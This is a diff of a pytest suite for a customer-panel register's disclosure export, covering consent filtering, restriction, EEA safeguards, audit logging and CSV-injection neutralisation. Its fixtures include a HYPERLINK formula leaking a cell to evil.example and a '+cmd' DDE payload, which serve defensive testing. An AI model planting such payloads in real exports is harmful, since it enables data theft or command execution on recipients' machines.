@@ -12,19 +12,17 @@ from __future__ import annotations
 import csv
 import json
 import re
-import shutil
 import stat
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
-from typer.testing import Result
 
 from kss_panel.services import disclosure, rights
 from kss_panel.writers import neutralise
-from kss_panel.policy import Policies
-from support import NOW, POLICIES_DIR, Register, Template, build_template, clear_kss_environment
+from support import NOW, POLICIES_DIR, Builder, Register, person
 
 SHIPPED = yaml.safe_load((POLICIES_DIR / "disclosure.yaml").read_text(encoding="utf-8"))["recipients"]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -57,78 +55,36 @@ LETTER_SHOP = """
 """
 
 
-def person(n: int, first: str, last: str, *, city: str = "Kouvola", street: str = "Kauppamiehenkatu 5", email_marketing: bool = True,
-           sms_marketing: bool = False, hobbies: list[str] | None = None) -> dict[str, Any]:
-    return {
-        "customer_number": f"{40_000_000 + n}",
-        "contact": {
-            "first_name": first, "last_name": last, "email": f"{first.lower()}.{last.lower()}@example.fi",
-            "phone": f"+3584030000{n:02d}", "street_address": street, "postal_code": "45100", "city": city, "language": "fi",
-        },
-        "demographics": {"birth_year": 1970 + n, "gender": "female"},
-        "electricity": {"heating": "district"},
-        "hobbies": hobbies or ["sauna"],
-        "consents": {"email_marketing": email_marketing, "sms_marketing": sms_marketing, "partner_disclosure": False},
-    }
-
-
+STREET = "Kauppamiehenkatu 5"
+EMAIL = ("email_marketing",)
 PEOPLE: dict[str, dict[str, Any]] = {
-    "anna": person(1, "Anna", "Aaltonen", email_marketing=True, sms_marketing=True, hobbies=["sauna", "fishing"]),
-    "bertta": person(2, "Bertta", "Berg", email_marketing=False),
-    "cecilia": person(3, "Cecilia", "Carlsson"),  # admitted, then restricted
-    "dora": person(4, "Dora", "Dahl"),  # admitted, then objected
-    "elsa": person(5, "Elsa", "Eskola", sms_marketing=True),  # an applicant, never admitted
-    "fanni": person(6, "Fanni", "Forsman", city=HYPERLINK, street="=1+2", hobbies=["=1+1", "sauna"]),
-    "greta": person(7, "Greta", "Grönholm", city="+cmd|' /C calc'!A0", street="+A1"),
-    "hilja": person(8, "Hilja", "Heino", city="-2+3", street="-A1"),
-    "ilona": person(9, "Ilona", "Ilves", city="@SUM(A1:A2)", street="@A1"),
+    "anna": person(1, "Anna", "Aaltonen", given=(*EMAIL, "sms_marketing"), hobbies=["sauna", "fishing"], contact__street_address=STREET,
+                   contact__email="anna.aaltonen@example.fi", contact__phone="+358403000001", demographics__birth_year=1971),
+    "bertta": person(2, "Bertta", "Berg", given=(), contact__street_address=STREET),
+    "cecilia": person(3, "Cecilia", "Carlsson", given=EMAIL),  # admitted, then restricted
+    "dora": person(4, "Dora", "Dahl", given=EMAIL),  # admitted, then objected
+    "elsa": person(5, "Elsa", "Eskola", given=(*EMAIL, "sms_marketing")),  # an applicant, never admitted
+    "fanni": person(6, "Fanni", "Forsman", given=EMAIL, contact__city=HYPERLINK, contact__street_address="=1+2", hobbies=["=1+1", "sauna"]),
+    "greta": person(7, "Greta", "Grönholm", given=EMAIL, contact__city="+cmd|' /C calc'!A0", contact__street_address="+A1"),
+    "hilja": person(8, "Hilja", "Heino", given=EMAIL, contact__city="-2+3", contact__street_address="-A1"),
+    "ilona": person(9, "Ilona", "Ilves", given=EMAIL, contact__city="@SUM(A1:A2)", contact__street_address="@A1"),
 }
 ADMITTED = ["anna", "bertta", "cecilia", "dora", "fanni", "greta", "hilja", "ilona"]
 DISCLOSABLE = ["anna", "bertta", "fanni", "greta", "hilja", "ilona"]  # not restricted, not objected
 WITH_EMAIL_CONSENT = ["anna", "fanni", "greta", "hilja", "ilona"]
 
 
-@pytest.fixture(scope="module")
-def template(tmp_path_factory: pytest.TempPathFactory, policies: Policies) -> Template:
-    """Built once: everyone enrolled at NOW; all but elsa admitted; cecilia restricted; dora objected (through the CLI)."""
-    directory = tmp_path_factory.mktemp("disclosure-template")
-    built = build_template(directory, policies, PEOPLE)
-    reg = Register(directory, built, policies)
-    roster = directory / "roster.csv"
-    roster.write_text("customer_number\n" + "".join(PEOPLE[name]["customer_number"] + "\n" for name in PEOPLE))
-    with pytest.MonkeyPatch.context() as monkeypatch:  # the autouse clean environment is per test, not per module
-        clear_kss_environment(monkeypatch)
-        for name in ADMITTED:
-            result = reg.run("admit", reg.ids[name], "--customers", str(roster))
-            assert result.exit_code == 0, result.stderr
-        assert reg.run("restrict", reg.ids["cecilia"], "--reason", "accuracy-contested").exit_code == 0
-        assert reg.run("consent", reg.ids["dora"], "--object").exit_code == 0
-    return built
-
-
-class Panel(Register):
-    """A copy of the template; ``names`` maps member ids back to names."""
-
-    def __init__(self, directory: Path, template: Template, policies: Policies) -> None:
-        super().__init__(directory, template, policies)
-        self.names = {member_id: name for name, member_id in self.ids.items()}
-
-    def export(self, recipient: str, purpose: str, *more: str, out: str = "out.csv") -> tuple[Result, Path]:
-        path = self.dir / out
-        return self.run("export", "disclosure", recipient, "--purpose", purpose, "--out", str(path), *more), path
-
-    def custom_policies(self, extra: str) -> Path:
-        directory = self.dir / "policies"
-        shutil.copytree(POLICIES_DIR, directory)
-        with open(directory / "disclosure.yaml", "a", encoding="utf-8") as handle:
-            handle.write(extra)
-        self.policies_dir = directory
-        return directory
+def the_panel(b: Builder) -> None:
+    """All but elsa admitted; cecilia restricted; dora objected."""
+    b.admit(*ADMITTED)
+    b.restrict("cecilia", "accuracy-contested")
+    b.object("dora")
 
 
 @pytest.fixture
-def panel(tmp_path: Path, template: Template, policies: Policies) -> Panel:
-    return Panel(tmp_path, template, policies)
+def panel(make_register: Callable[..., Register]) -> Register:
+    """Everyone enrolled, admitted, restricted and objected at NOW (the_panel)."""
+    return make_register(PEOPLE, NOW, populate=the_panel)
 
 
 def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
@@ -146,8 +102,8 @@ def expected_cell(data: dict[str, Any], path: str) -> str:
 # --- who is disclosed, and what --------------------------------------------------------------------------------
 
 
-def test_panel_mailer_receives_admitted_members_not_restricted_nor_objected(panel: Panel) -> None:
-    result, out = panel.export("panel-mailer", "communication")
+def test_panel_mailer_receives_admitted_members_not_restricted_nor_objected(panel: Register) -> None:
+    result, out = panel.disclose("panel-mailer", "communication")
     assert result.exit_code == 0, result.stderr
     assert result.stdout == (
         "disclosed 6 of 8 members to panel-mailer for communication"
@@ -166,8 +122,8 @@ def test_panel_mailer_receives_admitted_members_not_restricted_nor_objected(pane
         assert PEOPLE[name]["contact"]["first_name"] not in text
 
 
-def test_direct_marketing_requires_the_email_marketing_consent(panel: Panel) -> None:
-    result, out = panel.export("direct-marketing", "marketing", "--json")
+def test_direct_marketing_requires_the_email_marketing_consent(panel: Register) -> None:
+    result, out = panel.disclose("direct-marketing", "marketing", "--json")
     assert result.exit_code == 0, result.stderr
     data = json.loads(result.stdout)["data"]
     assert {k: data[k] for k in ("members", "disclosed", "restricted", "objected", "no_consent", "dry_run")} == {
@@ -181,17 +137,17 @@ def test_direct_marketing_requires_the_email_marketing_consent(panel: Panel) -> 
     assert anna["hobbies"] == "sauna;fishing" and anna["demographics.birth_year"] == "1971"
 
 
-def test_a_withdrawn_consent_takes_the_member_out_of_marketing(panel: Panel) -> None:
+def test_a_withdrawn_consent_takes_the_member_out_of_marketing(panel: Register) -> None:
     assert panel.run("consent", panel.ids["anna"], "--withdraw", "email_marketing").exit_code == 0
-    result, out = panel.export("direct-marketing", "competitions")
+    result, out = panel.disclose("direct-marketing", "competitions")
     assert result.exit_code == 0, result.stderr
     _, rows = read_csv(out)
     assert sorted(panel.names[row["member_id"]] for row in rows) == ["fanni", "greta", "hilja", "ilona"]
 
 
-def test_lifting_a_restriction_makes_the_member_disclosable_again(panel: Panel) -> None:
+def test_lifting_a_restriction_makes_the_member_disclosable_again(panel: Register) -> None:
     assert panel.run("restrict", panel.ids["cecilia"], "--lift").exit_code == 0
-    result, out = panel.export("panel-mailer", "communication")
+    result, out = panel.disclose("panel-mailer", "communication")
     assert result.exit_code == 0, result.stderr
     assert panel.ids["cecilia"] in {row["member_id"] for row in read_csv(out)[1]}
 
@@ -200,8 +156,8 @@ def test_lifting_a_restriction_makes_the_member_disclosable_again(panel: Panel) 
     ("recipient", "purpose"),
     [(recipient, purpose) for recipient, spec in SHIPPED.items() for purpose in spec["purposes"]],
 )
-def test_the_header_is_member_id_and_exactly_the_recipients_fields(panel: Panel, recipient: str, purpose: str) -> None:
-    result, out = panel.export(recipient, purpose)
+def test_the_header_is_member_id_and_exactly_the_recipients_fields(panel: Register, recipient: str, purpose: str) -> None:
+    result, out = panel.disclose(recipient, purpose)
     assert result.exit_code == 0, result.stderr
     header, rows = read_csv(out)
     assert header == ["member_id", *SHIPPED[recipient]["fields"]]
@@ -216,39 +172,39 @@ def test_the_header_is_member_id_and_exactly_the_recipients_fields(panel: Panel,
         assert panel.names[row["member_id"]] not in ("elsa", "cecilia", "dora")
 
 
-def test_sms_gateway_gets_sms_consenters_with_their_phone_kept_as_is(panel: Panel) -> None:
+def test_sms_gateway_gets_sms_consenters_with_their_phone_kept_as_is(panel: Register) -> None:
     # +358401234567 starts with '+' but is a plain E.164 number: no formula, so no leading quote.
-    result, out = panel.export("sms-gateway", "marketing")
+    result, out = panel.disclose("sms-gateway", "marketing")
     assert result.exit_code == 0, result.stderr
     header, rows = read_csv(out)
     assert header == ["member_id", "contact.first_name", "contact.phone", "contact.language"]
     assert rows == [{"member_id": panel.ids["anna"], "contact.first_name": "Anna", "contact.phone": "+358403000001", "contact.language": "fi"}]
 
 
-def test_applicants_never_appear(panel: Panel) -> None:
+def test_applicants_never_appear(panel: Register) -> None:
     for recipient, purpose in (("panel-mailer", "communication"), ("sms-gateway", "marketing"), ("direct-marketing", "marketing")):
-        result, out = panel.export(recipient, purpose, out=f"{recipient}.csv")
+        result, out = panel.disclose(recipient, purpose, out=f"{recipient}.csv")
         assert result.exit_code == 0, result.stderr
         assert panel.ids["elsa"] not in out.read_text()
         assert "Elsa" not in out.read_text()
 
 
-def test_a_register_of_applicants_only_gives_a_header_and_no_rows(tmp_path: Path, template: Template, policies: Policies) -> None:
-    reg = Register.create(tmp_path, policies, {"anna": PEOPLE["anna"]})
-    out = tmp_path / "out.csv"
+def test_a_register_of_applicants_only_gives_a_header_and_no_rows(make_register: Callable[..., Register]) -> None:
+    reg = make_register({"anna": PEOPLE["anna"]})
+    out = reg.dir / "out.csv"
     result = reg.run("export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
     assert result.exit_code == 0, result.stderr
     assert read_csv(out) == (["member_id", *SHIPPED["panel-mailer"]["fields"]], [])
 
 
-def test_a_recipient_given_a_whole_category_never_gets_a_python_repr(panel: Panel) -> None:
+def test_a_recipient_given_a_whole_category_never_gets_a_python_repr(panel: Register) -> None:
     # The policy check accepts a category name ("contact") among a recipient's fields. Either it must
     # refuse it (exit 6) or the export must give the category's fields as proper columns: a cell
     # holding "{'first_name': 'Anna', ...}" is no format a recipient can read, and skips neutralisation.
     panel.custom_policies(LETTER_SHOP.replace("letter-shop", "whole-contact").replace(
         "      - contact.first_name\n      - contact.street_address\n      - contact.postal_code\n      - contact.city\n",
         "      - contact\n"))
-    result, out = panel.export("whole-contact", "communication")
+    result, out = panel.disclose("whole-contact", "communication")
     assert result.exit_code in (0, 6), (result.stdout, result.stderr)
     if result.exit_code == 0:
         header, rows = read_csv(out)
@@ -260,8 +216,8 @@ def test_a_recipient_given_a_whole_category_never_gets_a_python_repr(panel: Pane
 # --- CSV injection --------------------------------------------------------------------------------------------
 
 
-def test_formula_cells_are_neutralised_in_csv(panel: Panel) -> None:
-    result, out = panel.export("direct-marketing", "marketing")
+def test_formula_cells_are_neutralised_in_csv(panel: Register) -> None:
+    result, out = panel.disclose("direct-marketing", "marketing")
     assert result.exit_code == 0, result.stderr
     _, rows = read_csv(out)
     by_name = {panel.names[row["member_id"]]: row for row in rows}
@@ -276,9 +232,9 @@ def test_formula_cells_are_neutralised_in_csv(panel: Panel) -> None:
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
 
 
-def test_street_cells_are_neutralised_too(panel: Panel) -> None:
+def test_street_cells_are_neutralised_too(panel: Register) -> None:
     panel.custom_policies(LETTER_SHOP)
-    result, out = panel.export("letter-shop", "communication")
+    result, out = panel.disclose("letter-shop", "communication")
     assert result.exit_code == 0, result.stderr
     header, rows = read_csv(out)
     assert header == ["member_id", "contact.first_name", "contact.street_address", "contact.postal_code", "contact.city"]
@@ -287,8 +243,8 @@ def test_street_cells_are_neutralised_too(panel: Panel) -> None:
                        "hilja": "'-A1", "ilona": "'@A1"}
 
 
-def test_json_format_keeps_values_as_they_are(panel: Panel) -> None:
-    result, out = panel.export("direct-marketing", "marketing", "--format", "json", out="out.json")
+def test_json_format_keeps_values_as_they_are(panel: Register) -> None:
+    result, out = panel.disclose("direct-marketing", "marketing", "--format", "json", out="out.json")
     assert result.exit_code == 0, result.stderr
     rows = json.loads(out.read_text(encoding="utf-8"))
     assert isinstance(rows, list) and len(rows) == len(WITH_EMAIL_CONSENT)
@@ -301,11 +257,11 @@ def test_json_format_keeps_values_as_they_are(panel: Panel) -> None:
     assert by_name["anna"]["contact.email"] == "anna.aaltonen@example.fi"
 
 
-def test_json_format_with_nobody_to_disclose_is_an_empty_array(panel: Panel) -> None:
+def test_json_format_with_nobody_to_disclose_is_an_empty_array(panel: Register) -> None:
     panel.custom_policies(OVERSEAS.format(safeguard="    safeguard: standard-contractual-clauses\n"))
     for name in DISCLOSABLE:
         assert panel.run("restrict", panel.ids[name], "--reason", "legal-claims").exit_code == 0
-    result, out = panel.export("survey-cloud", "market_research", "--format", "json", out="none.json")
+    result, out = panel.disclose("survey-cloud", "market_research", "--format", "json", out="none.json")
     assert result.exit_code == 0, result.stderr
     assert json.loads(out.read_text()) == []
 
@@ -324,26 +280,26 @@ def test_neutralise(cell: str, expected: str) -> None:
 # --- the output file and --dry-run ----------------------------------------------------------------------------
 
 
-def test_the_output_file_is_0600(panel: Panel) -> None:
-    result, out = panel.export("panel-mailer", "communication")
+def test_the_output_file_is_0600(panel: Register) -> None:
+    result, out = panel.disclose("panel-mailer", "communication")
     assert result.exit_code == 0, result.stderr
     assert stat.S_IMODE(out.stat().st_mode) == 0o600
 
 
-def test_an_existing_output_file_is_never_overwritten(panel: Panel) -> None:
+def test_an_existing_output_file_is_never_overwritten(panel: Register) -> None:
     out = panel.dir / "out.csv"
     out.write_text("the officer's other file\n")
     before = panel.tables()
-    result, _ = panel.export("panel-mailer", "communication")
+    result, _ = panel.disclose("panel-mailer", "communication", out="out.csv")
     assert result.exit_code == 5, result.stderr
     assert "already exists" in result.stderr and "Traceback" not in result.output
     assert out.read_text() == "the officer's other file\n"
     assert panel.tables() == before
 
 
-def test_dry_run_prints_counts_and_writes_and_logs_nothing(panel: Panel) -> None:
+def test_dry_run_prints_counts_and_writes_and_logs_nothing(panel: Register) -> None:
     before = panel.tables()
-    result, out = panel.export("direct-marketing", "marketing", "--dry-run")
+    result, out = panel.disclose("direct-marketing", "marketing", "--dry-run")
     assert result.exit_code == 0, result.stderr
     assert result.stdout == (
         "would disclose 5 of 8 members to direct-marketing for marketing (excluded: 1 restricted, 1 objected, 1 without consent)\n"
@@ -361,7 +317,7 @@ def test_dry_run_prints_counts_and_writes_and_logs_nothing(panel: Panel) -> None
     assert not any(p.suffix == ".csv" for p in panel.dir.iterdir())
 
 
-def test_an_export_without_an_output_file_is_refused(panel: Panel) -> None:
+def test_an_export_without_an_output_file_is_refused(panel: Register) -> None:
     before = panel.tables()
     result = panel.run("export", "disclosure", "panel-mailer", "--purpose", "communication")
     assert result.exit_code == 5
@@ -376,10 +332,10 @@ def test_an_export_without_an_output_file_is_refused(panel: Panel) -> None:
     ("recipient", "purpose"),
     [("nobody-we-know", "communication"), ("panel-mailer", "marketing"), ("sms-gateway", "communication"), ("direct-marketing", "market_research")],
 )
-def test_a_recipient_or_purpose_the_policy_does_not_allow_exits_9(panel: Panel, recipient: str, purpose: str) -> None:
+def test_a_recipient_or_purpose_the_policy_does_not_allow_exits_9(panel: Register, recipient: str, purpose: str) -> None:
     before = panel.tables()
     for more in ((), ("--dry-run",)):
-        result, out = panel.export(recipient, purpose, *more)
+        result, out = panel.disclose(recipient, purpose, *more)
         assert result.exit_code == 9, (result.stdout, result.stderr)
         assert result.stderr.startswith("kss-panel: error: ")
         assert "Traceback" not in result.output and result.stdout == ""
@@ -387,22 +343,22 @@ def test_a_recipient_or_purpose_the_policy_does_not_allow_exits_9(panel: Panel, 
         assert panel.tables() == before
 
 
-def test_a_recipient_outside_the_eea_without_safeguard_is_an_invalid_policy(panel: Panel) -> None:
+def test_a_recipient_outside_the_eea_without_safeguard_is_an_invalid_policy(panel: Register) -> None:
     panel.custom_policies(OVERSEAS.format(safeguard=""))
     before = panel.tables()
-    result, out = panel.export("survey-cloud", "market_research")
+    result, out = panel.disclose("survey-cloud", "market_research")
     assert result.exit_code == 6, (result.stdout, result.stderr)
     assert "disclosure.yaml" in result.stderr and "safeguard" in result.stderr
     assert re.search(r"disclosure\.yaml:\d+", result.stderr), result.stderr
     assert not out.exists()
     assert panel.tables() == before
     # Every other command refuses the invalid policy too, so no export to anyone.
-    assert panel.export("panel-mailer", "communication", out="other.csv")[0].exit_code == 6
+    assert panel.disclose("panel-mailer", "communication", out="other.csv")[0].exit_code == 6
 
 
-def test_a_recipient_outside_the_eea_with_standard_contractual_clauses_works(panel: Panel) -> None:
+def test_a_recipient_outside_the_eea_with_standard_contractual_clauses_works(panel: Register) -> None:
     panel.custom_policies(OVERSEAS.format(safeguard="    safeguard: standard-contractual-clauses\n"))
-    result, out = panel.export("survey-cloud", "market_research")
+    result, out = panel.disclose("survey-cloud", "market_research")
     assert result.exit_code == 0, result.stderr
     header, rows = read_csv(out)
     assert header == ["member_id", "contact.first_name", "contact.email"]
@@ -412,9 +368,9 @@ def test_a_recipient_outside_the_eea_with_standard_contractual_clauses_works(pan
 # --- the disclosure log and the audit trail -------------------------------------------------------------------
 
 
-def test_every_disclosed_member_gets_a_log_entry_that_the_access_export_lists(panel: Panel) -> None:
+def test_every_disclosed_member_gets_a_log_entry_that_the_access_export_lists(panel: Register) -> None:
     audit_before = len(panel.json("audit", "log"))
-    result, out = panel.export("direct-marketing", "marketing")
+    result, out = panel.disclose("direct-marketing", "marketing")
     assert result.exit_code == 0, result.stderr
     logged = panel.sql("SELECT member_id, recipient, purpose, fields, disclosed_on FROM disclosures ORDER BY id")
     assert sorted(panel.names[row[0]] for row in logged) == sorted(WITH_EMAIL_CONSENT)
@@ -438,9 +394,9 @@ def test_every_disclosed_member_gets_a_log_entry_that_the_access_export_lists(pa
         assert panel.json("export", "access", panel.ids[name])["disclosures"] == [], name
 
 
-def test_the_log_grows_with_each_disclosure(panel: Panel) -> None:
-    assert panel.export("panel-mailer", "communication", out="a.csv")[0].exit_code == 0
-    assert panel.export("sms-gateway", "marketing", out="b.csv")[0].exit_code == 0
+def test_the_log_grows_with_each_disclosure(panel: Register) -> None:
+    assert panel.disclose("panel-mailer", "communication", out="a.csv")[0].exit_code == 0
+    assert panel.disclose("sms-gateway", "marketing", out="b.csv")[0].exit_code == 0
     anna = panel.json("export", "access", panel.ids["anna"])
     assert [(d["recipient"], d["purpose"]) for d in anna["disclosures"]] == [("panel-mailer", "communication"), ("sms-gateway", "marketing")]
     assert panel.sql("SELECT count(*) FROM disclosures")[0][0] == len(DISCLOSABLE) + 1
@@ -448,7 +404,7 @@ def test_the_log_grows_with_each_disclosure(panel: Panel) -> None:
     assert [(d["recipient"], d["fields"]) for d in bertta["disclosures"]] == [("panel-mailer", SHIPPED["panel-mailer"]["fields"])]
 
 
-def test_the_disclosure_log_date_is_the_day_of_the_export(panel: Panel) -> None:
+def test_the_disclosure_log_date_is_the_day_of_the_export(panel: Register) -> None:
     with panel.session() as session:
         out = panel.dir / "mailing.json"
         summary = disclosure.disclose(session, "panel-mailer", "communication", NOW, out=out, format_="json")
@@ -462,7 +418,7 @@ def test_the_disclosure_log_date_is_the_day_of_the_export(panel: Panel) -> None:
     }]
 
 
-def test_no_disclosure_is_logged_when_the_export_fails(panel: Panel) -> None:
+def test_no_disclosure_is_logged_when_the_export_fails(panel: Register) -> None:
     before = panel.tables()
     out = panel.dir / "missing-dir" / "out.csv"
     result = panel.run("export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
